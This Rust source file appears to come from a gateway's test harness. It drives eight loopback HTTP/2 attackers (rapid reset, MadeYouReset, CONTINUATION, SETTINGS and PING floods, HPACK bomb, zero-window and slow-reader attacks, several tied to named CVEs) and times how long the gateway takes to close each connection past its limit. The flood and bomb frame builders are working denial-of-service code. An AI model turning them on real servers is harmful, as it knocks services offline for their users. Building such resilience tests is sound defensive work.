//! Attackers that speak HTTP/2 in cleartext: eight connections on one thread, as fast as it goes, each beginning anew when it was
//! closed. They know after how much a gateway must have had enough of a connection, and note how long after that it closed it.
//! What the gateway suffers meanwhile is measured elsewhere (scenarios/floods.rs).

use std::io;
use std::net::{Ipv4Addr, TcpStream};
use std::os::fd::AsRawFd;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use crate::h2::{self, flag, kind, setting};
use crate::sys::{self, BROKEN, ENDED, Epoll, READABLE, WRITABLE};

pub const CONNECTIONS: usize = 8;

/// What the gateway is configured to bear of a peer that takes nothing.
pub const WRITE_TIMEOUT: Duration = Duration::from_secs(2);
pub const WRITE_TIMEOUT_YAML: &str = ", write_timeout: 2s";

/// Offences after which a connection must go. A client in good faith stays far below each: it resets a stream when a user has left,
/// pings by the second, changes settings once or twice, and has no reason at all for the others.
const RESETS_MAX: u64 = 1_000;
const PINGS_MAX: u64 = 10_000;
const SETTINGS_MAX: u64 = 10_000;
const BOMBS_MAX: u64 = 100;
/// Continuations without content; those with content must end at the gateway's default limit for a head.
const CONTINUATIONS_MAX: u64 = 1_000;
const HEAD_BYTES_MAX: u64 = 64 * 1024;

/// Streams of one attacker that wait for windows; below what any server allows.
const WAITING: u32 = 90;
/// Between two bytes of window.
const DRIP: Duration = Duration::from_millis(10);
/// Of the kernel's memory for an attacker that leaves what arrives.
const NARROW_BUFFER: i32 = 4096;
const NARROW_SEGMENT: i32 = 1024;
/// Frames are made in batches of about this size.
const BATCH_BYTES: usize = 16 * 1024;
/// One entry that just fits a table of 4096 bytes, with its 32 of overhead and a name of one byte; and how often a bomb names it.
const BOMB_VALUE: usize = 4_000;
const BOMB_FIELDS: usize = 16_000;
/// The first entry of the dynamic table, by index.
const FIRST_DYNAMIC: u8 = 0x80 | 62;
const PART_BYTES: usize = 1024;

const NO_ERROR_YET: &[u8] = &[0, 0, 0, 8];

#[derive(Clone, Copy, Debug, PartialEq)]
pub enum Attack {
    /// Requests, each taken back at once (CVE-2023-44487).
    RapidReset,
    /// Frames that make the server itself reset a stream it serves (CVE-2025-8671).
    MadeYouReset,
    /// A header block that never ends: of empty pieces, or of full ones (CVE-2024-27316).
    Continuation,
    /// Settings without end, with acknowledgements read or left (CVE-2019-9515).
    Settings,
    /// Pings without end, with answers read or left (CVE-2019-9512).
    Ping,
    /// Small blocks that stand for megabytes of fields.
    HpackBomb,
    /// Requests for bodies that nobody takes: without windows, or without reading (CVE-2019-9517).
    ZeroWindow,
    /// Bodies taken by the byte (CVE-2019-9511).
    SlowReader,
}

impl Attack {
    pub const ALL: [Attack; 8] = [
        Attack::RapidReset,
        Attack::MadeYouReset,
        Attack::Continuation,
        Attack::Settings,
        Attack::Ping,
        Attack::HpackBomb,
        Attack::ZeroWindow,
        Attack::SlowReader,
    ];

    pub fn name(self) -> &'static str {
        match self {
            Attack::RapidReset => "rapid reset",
            Attack::MadeYouReset => "MadeYouReset",
            Attack::Continuation => "CONTINUATION flood",
            Attack::Settings => "SETTINGS flood",
            Attack::Ping => "PING flood",
            Attack::HpackBomb => "HPACK bomb",
            Attack::ZeroWindow => "zero window",
            Attack::SlowReader => "slow reader",
        }
    }

    /// The limit in words.
    pub fn limit(self) -> String {
        match self {
            Attack::RapidReset | Attack::MadeYouReset => format!("{RESETS_MAX} resets"),
            Attack::Continuation => format!("{CONTINUATIONS_MAX} empty pieces or {} KiB", HEAD_BYTES_MAX / 1024),
            Attack::Settings => format!("{SETTINGS_MAX} frames"),
            Attack::Ping => format!("{PINGS_MAX} frames"),
            Attack::HpackBomb => format!("{BOMBS_MAX} bombs"),
            Attack::ZeroWindow | Attack::SlowReader => format!("write_timeout {} s", WRITE_TIMEOUT.as_secs()),
        }
    }

    /// Offences that a connection may commit; `None` where time is what runs out.
    fn allowed(self, odd: bool) -> Option<u64> {
        match self {
            Attack::RapidReset | Attack::MadeYouReset => Some(RESETS_MAX),
            Attack::Continuation if odd => Some(HEAD_BYTES_MAX / PART_BYTES as u64),
            Attack::Continuation => Some(CONTINUATIONS_MAX),
            Attack::Settings => Some(SETTINGS_MAX),
            Attack::Ping => Some(PINGS_MAX),
            Attack::HpackBomb => Some(BOMBS_MAX),
            Attack::ZeroWindow | Attack::SlowReader => None,
        }
    }

    /// Whether this one leaves what the gateway sends.
    fn reads(self, odd: bool) -> bool {
        !(odd && matches!(self, Attack::Settings | Attack::Ping | Attack::ZeroWindow))
    }

    /// Whether the gateway may also end the streams alone.
    fn ends_with_streams(self) -> bool {
        matches!(self, Attack::ZeroWindow | Attack::SlowReader)
    }
}

/// What became of the attackers.
#[derive(Default)]
pub struct Record {
    /// From a limit passed to the connection closed, in milliseconds; 0 where it was closed before.
    pub late: Vec<f64>,
    /// Connections that had passed their limit and were open at the end; `late` holds how long they had been.
    pub left: usize,
    pub connections: u64,
    pub offences: u64,
    /// CPU of this thread, of one core.
    pub share: f64,
}

/// Attacks until it is over.
pub fn run(attack: Attack, port: u16, over: &AtomicBool) -> io::Result<Record> {
    let (began, cpu) = (Instant::now(), sys::thread_cpu_ns()?);
    let mut epoll = Epoll::new()?;
    let mut record = Record::default();
    let mut attackers = Vec::new();
    for place in 0..CONNECTIONS {
        attackers.push(Attacker::connect(attack, port, place, &epoll)?);
    }
    let (mut ready, mut buffer) = (Vec::new(), vec![0; 64 * 1024]);
    while !over.load(Ordering::Relaxed) {
        let nap = if attack == Attack::SlowReader { DRIP } else { Duration::from_millis(50) };
        epoll.wait(Some(nap), &mut ready)?;
        for &(place, readiness) in &ready {
            attackers[place as usize].turn(readiness, &mut buffer);
        }
        let now = Instant::now();
        for attacker in &mut attackers {
            attacker.drip(now);
            if attacker.over {
                record.late.push(attacker.late(now).unwrap_or(0.0));
                record.add(attacker);
                *attacker = Attacker::connect(attack, port, attacker.place, &epoll)?;
            }
            attacker.watch(&epoll)?;
        }
    }
    let now = Instant::now();
    for attacker in &attackers {
        record.add(attacker);
        if let Some(late) = attacker.late(now) {
            record.late.push(late);
            record.left += 1;
        }
    }
    record.share = (sys::thread_cpu_ns()? - cpu) as f64 / 1e9 / began.elapsed().as_secs_f64();
    Ok(record)
}

impl Record {
    fn add(&mut self, attacker: &Attacker) {
        self.connections += 1;
        self.offences += attacker.offences;
    }
}

struct Attacker {
    attack: Attack,
    place: usize,
    stream: TcpStream,
    input: Vec<u8>,
    out: Vec<u8>,
    sent: usize,
    next: u32,
    offences: u64,
    began: Instant,
    passed: Option<Instant>,
    /// Since when the gateway has taken nothing.
    blocked: Option<Instant>,
    dripped: Instant,
    watched: u32,
    resets: u32,
    over: bool,
}

impl Attacker {
    fn connect(attack: Attack, port: u16, place: usize, epoll: &Epoll) -> io::Result<Attacker> {
        // Not from the address of those whom it wants to harm.
        let stream = sys::connect_from(Ipv4Addr::new(127, 0, 0, 2 + place as u8), sys::loopback(port))?;
        stream.set_nonblocking(true)?;
        if !attack.reads(place % 2 == 1) {
            sys::narrow(stream.as_raw_fd(), NARROW_BUFFER, NARROW_SEGMENT)?;
        }
        let now = Instant::now();
        let mut attacker = Attacker {
            attack,
            place,
            stream,
            input: Vec::new(),
            out: h2::PREFACE.to_vec(),
            sent: 0,
            next: 1,
            offences: 0,
            began: now,
            passed: None,
            blocked: None,
            dripped: now,
            watched: 0,
            resets: 0,
            over: false,
        };
        attacker.introduce();
        attacker.watched = attacker.interest();
        epoll.add(attacker.stream.as_raw_fd(), place as u64, attacker.watched)?;
        Ok(attacker)
    }

    fn odd(&self) -> bool {
        self.place % 2 == 1
    }

    fn introduce(&mut self) {
        let window = match self.attack {
            Attack::ZeroWindow if !self.odd() => 0,
            Attack::SlowReader => 0,
            _ => h2::WINDOW_MAX,
        };
        h2::settings(&mut self.out, &[(setting::ENABLE_PUSH, 0), (setting::INITIAL_WINDOW_SIZE, window)]);
        h2::window_update(&mut self.out, 0, h2::WINDOW_MAX - h2::WINDOW_BEGINS);
        match self.attack {
            Attack::ZeroWindow | Attack::SlowReader => {
                let request = h2::get("/64k", false, 0).bytes;
                (0..WAITING).for_each(|_| _ = self.request(&request, flag::END_STREAM));
            }
            Attack::Continuation => _ = self.headers(&[0x82], flag::END_STREAM),
            Attack::HpackBomb => {
                let mut block = h2::get("/1k", false, 0).bytes;
                block.extend([0x40, 1, b'x']);
                h2::integer(&mut block, 0, 7, BOMB_VALUE);
                block.resize(block.len() + BOMB_VALUE, b'x');
                self.request(&block, flag::END_STREAM);
            }
            Attack::RapidReset | Attack::MadeYouReset | Attack::Settings | Attack::Ping => {}
        }
    }

    fn request(&mut self, block: &[u8], flags: u8) -> u32 {
        self.headers(block, flag::END_HEADERS | flags)
    }

    fn headers(&mut self, block: &[u8], flags: u8) -> u32 {
        let id = self.next;
        h2::frame(&mut self.out, kind::HEADERS, flags, id, block);
        self.next += 2;
        id
    }

    /// The next batch of a flood, as offences.
    fn batch(&mut self) -> u64 {
        let mut offences = 0;
        while self.out.len() < BATCH_BYTES {
            match self.attack {
                Attack::RapidReset => {
                    let id = self.request(&h2::get("/1k", false, 0).bytes, flag::END_STREAM);
                    h2::frame(&mut self.out, kind::RST_STREAM, 0, id, NO_ERROR_YET);
                }
                Attack::MadeYouReset => self.provoke(),
                Attack::Continuation => {
                    let part = if self.odd() { one_field() } else { Vec::new() };
                    h2::frame(&mut self.out, kind::CONTINUATION, 0, 1, &part);
                }
                Attack::Settings => h2::settings(&mut self.out, &[(setting::INITIAL_WINDOW_SIZE, h2::WINDOW_BEGINS)]),
                Attack::Ping => h2::frame(&mut self.out, kind::PING, 0, 0, &[0; 8]),
                Attack::HpackBomb => {
                    let mut block = h2::get("/1k", false, 0).bytes;
                    block.resize(block.len() + BOMB_FIELDS, FIRST_DYNAMIC);
                    self.request(&block, flag::END_STREAM);
                }
                Attack::ZeroWindow | Attack::SlowReader => return 0,
            }
            offences += 1;
        }
        offences
    }

    /// A request as good as any, and then on its stream what nobody may do, so that the server resets it: a window widened by
    /// nothing, a window widened beyond its end, a body after the end of the request.
    fn provoke(&mut self) {
        let id = self.request(&h2::get("/1k", false, 0).bytes, flag::END_STREAM);
        match id / 2 % 3 {
            0 => h2::window_update(&mut self.out, id, 0),
            1 => h2::window_update(&mut self.out, id, h2::WINDOW_MAX),
            _ => h2::frame(&mut self.out, kind::DATA, 0, id, b"x"),
        }
    }

    fn interest(&self) -> u32 {
        let read = if self.attack.reads(self.odd()) { READABLE } else { 0 };
        let floods = self.attack.allowed(self.odd()).is_some();
        let write = if floods || !self.out.is_empty() { WRITABLE } else { 0 };
        read | write | ENDED
    }

    fn watch(&mut self, epoll: &Epoll) -> io::Result<()> {
        let wanted = self.interest();
        if wanted != self.watched {
            self.watched = wanted;
            epoll.change(self.stream.as_raw_fd(), self.place as u64, wanted)?;
        }
        Ok(())
    }

    fn turn(&mut self, readiness: u32, buffer: &mut [u8]) {
        if readiness & READABLE != 0 {
            self.read(buffer);
        }
        if readiness & WRITABLE != 0 {
            self.write();
        }
        // What has arrived before the end was read above; who does not read has nothing more to wait for.
        self.over |= readiness & BROKEN != 0 || readiness & ENDED != 0;
    }

    fn write(&mut self) {
        if self.out.is_empty() {
            self.offences += self.batch();
            // Ids of streams run out too.
            self.over |= self.next > h2::WINDOW_MAX - BATCH_BYTES as u32;
        }
        while self.sent < self.out.len() {
            match sys::send(self.stream.as_raw_fd(), &self.out[self.sent..]) {
                Ok(Some(count)) => {
                    self.sent += count;
                    self.blocked = None;
                }
                Ok(None) => {
                    self.blocked.get_or_insert_with(Instant::now);
                    return;
                }
                Err(_) => {
                    self.over = true;
                    return;
                }
            }
        }
        self.out.clear();
        self.sent = 0;
        if self.attack.allowed(self.odd()).is_some_and(|allowed| self.offences > allowed) {
            self.passed.get_or_insert_with(Instant::now);
        }
    }

    fn read(&mut self, buffer: &mut [u8]) {
        match sys::receive(self.stream.as_raw_fd(), buffer) {
            Ok(Some(0)) | Err(_) => self.over = true,
            Ok(Some(count)) if self.attack.ends_with_streams() => self.follow(&buffer[..count]),
            Ok(Some(_)) | Ok(None) => {}
        }
    }

    /// Counts the streams that the gateway gave up.
    fn follow(&mut self, bytes: &[u8]) {
        let mut input = std::mem::take(&mut self.input);
        input.extend_from_slice(bytes);
        let mut rest = &input[..];
        while let Ok(Some((frame, after))) = h2::next(rest) {
            self.resets += u32::from(frame.kind == kind::RST_STREAM);
            self.over |= frame.kind == kind::GOAWAY || self.resets >= WAITING;
            rest = after;
        }
        self.input = rest.to_vec();
    }

    /// Opens every stream by another byte.
    fn drip(&mut self, now: Instant) {
        if self.attack == Attack::SlowReader && now.saturating_duration_since(self.dripped) >= DRIP {
            self.dripped = now;
            if self.out.is_empty() {
                (0..WAITING).for_each(|number| h2::window_update(&mut self.out, 1 + 2 * number, 1));
                self.offences += u64::from(WAITING);
            }
            self.write();
        }
    }

    /// Milliseconds since the gateway should have closed this one; `None` before that. Who is not read from any more, and
    /// does not read, is a matter of patience with writes.
    fn late(&self, now: Instant) -> Option<f64> {
        let passed = match self.attack.allowed(self.odd()) {
            Some(_) => self.passed?,
            None => self.began + WRITE_TIMEOUT,
        };
        let patience = self.blocked.filter(|_| !self.attack.reads(self.odd())).map(|since| since + WRITE_TIMEOUT);
        let due = patience.map_or(passed, |patience| patience.max(passed));
        (now > due).then(|| (now - due).as_secs_f64() * 1000.0)
    }
}

/// A field of about a kilobyte, whole in itself.
fn one_field() -> Vec<u8> {
    let mut block = vec![0x00, 1, b'y'];
    let value = PART_BYTES - 6;
    h2::integer(&mut block, 0, 7, value);
    block.resize(block.len() + value, b'y');
    block
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::net::TcpListener;

    /// An attacker against a listener that nobody accepts from.
    fn attacker(attack: Attack, place: usize) -> (TcpListener, Attacker) {
        let listener = TcpListener::bind(sys::loopback(0)).unwrap();
        let port = listener.local_addr().unwrap().port();
        let attacker = Attacker::connect(attack, port, place, &Epoll::new().unwrap()).unwrap();
        (listener, attacker)
    }

    #[test]
    fn every_batch_is_whole_frames_and_counts_its_offences() {
        for attack in Attack::ALL {
            for place in [0, 1] {
                let (_listener, mut attacker) = attacker(attack, place);
                attacker.out.clear();
                let offences = attacker.batch();
                let (mut rest, mut frames) = (&attacker.out[..], 0);
                while let Some((_, after)) = h2::next(rest).unwrap() {
                    (rest, frames) = (after, frames + 1);
                }
                assert!(rest.is_empty(), "{attack:?}");
                let each = if matches!(attack, Attack::RapidReset | Attack::MadeYouReset) { 2 } else { 1 };
                assert_eq!(frames, offences * each, "{attack:?}");
                assert_eq!(offences > 0, attack.allowed(place == 1).is_some(), "{attack:?}");
            }
        }
    }

    #[test]
    fn a_field_is_as_large_as_it_says() {
        assert_eq!(one_field().len(), PART_BYTES);
    }

    #[test]
    fn lateness_counts_from_the_limit_and_not_from_the_beginning() {
        let (_listener, mut attacker) = attacker(Attack::Ping, 0);
        let now = Instant::now();
        assert_eq!(attacker.late(now), None);
        attacker.passed = Some(now);
        assert_eq!(attacker.late(now + Duration::from_millis(40)), Some(40.0));
        attacker.blocked = Some(now);
        assert_eq!(attacker.late(now + Duration::from_millis(40)), Some(40.0), "it reads, so nothing excuses the gateway");
        attacker.place = 1;
        assert_eq!(attacker.late(now + WRITE_TIMEOUT), None);
        assert_eq!(attacker.late(now + WRITE_TIMEOUT + Duration::from_millis(7)), Some(7.0));
    }
}
